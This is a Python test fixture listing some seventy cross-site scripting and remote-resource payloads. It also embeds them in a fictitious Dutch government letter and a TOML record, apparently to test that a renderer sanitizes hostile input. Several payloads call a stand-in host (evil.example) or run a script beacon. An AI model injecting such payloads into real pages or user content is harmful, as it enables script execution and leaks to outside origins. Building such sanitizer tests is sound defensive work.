"""Hostile texts: each tries to run something or to reach another origin when shown."""

import json

OUTSIDE = "http://evil.example"
BEACON = "window.pwned=1"

PAYLOADS = (
    f"<script>{BEACON}</script>",
    f"<script src={OUTSIDE}/x.js></script>",
    f"<ScRiPt>{BEACON}</sCrIpT>",
    f"<scr<script>ipt>{BEACON}</script>",
    f"<img src=x onerror={BEACON}>",
    f"<img src={OUTSIDE}/a.png>",
    f"<img srcset='{OUTSIDE}/b.png 1x'>",
    f'"><img src=x onerror={BEACON}>',
    f"'><img src=x onerror={BEACON}>",
    f'" onmouseover="{BEACON}" x="',
    f"' onfocus='{BEACON}' autofocus='",
    f'" autofocus onfocus="{BEACON}',
    f"<svg onload={BEACON}>",
    f"<svg><script>{BEACON}</script></svg>",
    f"<svg><a xlink:href='javascript:{BEACON}'><text>x</text></a></svg>",
    f"<svg><image href='{OUTSIDE}/c.svg'/></svg>",
    f"<svg><use href='{OUTSIDE}/d.svg#x'/></svg>",
    f"<svg><animate onbegin={BEACON} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={BEACON}></mtext></math>",
    f"<iframe src='{OUTSIDE}'></iframe>",
    f"<iframe srcdoc='<script>parent.{BEACON}</script>'></iframe>",
    f"<object data='{OUTSIDE}/e.swf'></object>",
    f"<embed src='{OUTSIDE}/f.swf'>",
    f"<video src='{OUTSIDE}/g.mp4' autoplay></video>",
    f"<video><source onerror={BEACON}></video>",
    f"<audio src='{OUTSIDE}/h.mp3' autoplay onerror={BEACON}></audio>",
    f"<link rel=stylesheet href='{OUTSIDE}/i.css'>",
    f"<link rel=prefetch href='{OUTSIDE}/j'>",
    f"<style>@import '{OUTSIDE}/k.css';</style>",
    f"<style>body{{background:url({OUTSIDE}/l.png)}}</style>",
    f"<div style='background:url({OUTSIDE}/m.png)'>x</div>",
    f"<p style=background-image:url({OUTSIDE}/n.png)>x</p>",
    f"<base href='{OUTSIDE}/'>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>",
    f"<form action='{OUTSIDE}'><input name=x><button>Inloggen</button></form>",
    f"<form><button formaction='javascript:{BEACON}'>x</button></form>",
    f"<isindex action='javascript:{BEACON}' type=submit>",
    f"<input autofocus onfocus={BEACON}>",
    f"<textarea autofocus onfocus={BEACON}></textarea>",
    f"<select autofocus onfocus={BEACON}></select>",
    f"<details open ontoggle={BEACON}>x</details>",
    f"<marquee onstart={BEACON}>x</marquee>",
    f"<body onload={BEACON}>",
    f"<a href='javascript:{BEACON}'>klik</a>",
    f"<a href='{OUTSIDE}' ping='{OUTSIDE}/p'>klik</a>",
    f"<button onclick={BEACON}>klik</button>",
    f"<button data-do='forget' data-copy='{OUTSIDE}'>klik</button>",
    f"<dialog open onclose={BEACON}>x</dialog>",
    f"<template><img src=x onerror={BEACON}></template>",
    f"<noscript><img src=x onerror={BEACON}></noscript>",
    f"</textarea><script>{BEACON}</script>",
    f"</title><script>{BEACON}</script>",
    f"</script><script>{BEACON}</script>",
    f"</blockquote></li></ol><img src=x onerror={BEACON}>",
    f"<!--><img src=x onerror={BEACON}>-->",
    f"<![CDATA[<img src=x onerror={BEACON}>]]>",
    f"<x onclick={BEACON} tabindex=1 id=x>klik</x>",
    f"![plaatje]({OUTSIDE}/q.png)",
    f"[link]({OUTSIDE}/r)",
    f"[link](javascript:{BEACON})",
    f"<{OUTSIDE}/s>",
    f"`<img src=x onerror={BEACON}>`",
    f"${{{BEACON}}}",
    f"{{{{constructor.constructor('{BEACON}')()}}}}",
    f"`+({BEACON})+`",
    f"{{{{#each value}}}}<img src=x onerror={BEACON}>{{{{/each}}}}",
    f"&lt;img src=x onerror={BEACON}&gt;",
    f"&#60;script&#62;{BEACON}&#60;/script&#62;",
    f"\u202e<img src=x onerror={BEACON}>",
    f"%3Cscript%3E{BEACON}%3C/script%3E",
)

# A letter of which title, headings, text, list and web address are hostile.
_BODY = "\n".join(
    f"Maatregel {number} van de kwetsbaarhedenproef luidt {payload} en geldt sinds 2024."
    for number, payload in enumerate(PAYLOADS, start=1)
)
_HEADING = f"Kwetsbaarhedenproef <img src=x onerror={BEACON}>"
HOSTILE_LETTER = (
    "Hierbij ontvangt u de fictieve brief over de kwetsbaarhedenproef.\n\n"
    f"A. {_HEADING}\n{_BODY}\n\nB. Tot slot\nDe kwetsbaarhedenproef eindigt in maart 2025.\n"
)
HOSTILE_TOML = f"""letter_id = "fictief-1"
title = {json.dumps(f"Proef <img src={OUTSIDE}/title.png onerror={BEACON}>")}
date = 2025-03-01
sender = "<script>{BEACON}</script>"
chamber = "II"
dossier = "99999"
number = "1"
url = "javascript:{BEACON}"
"""
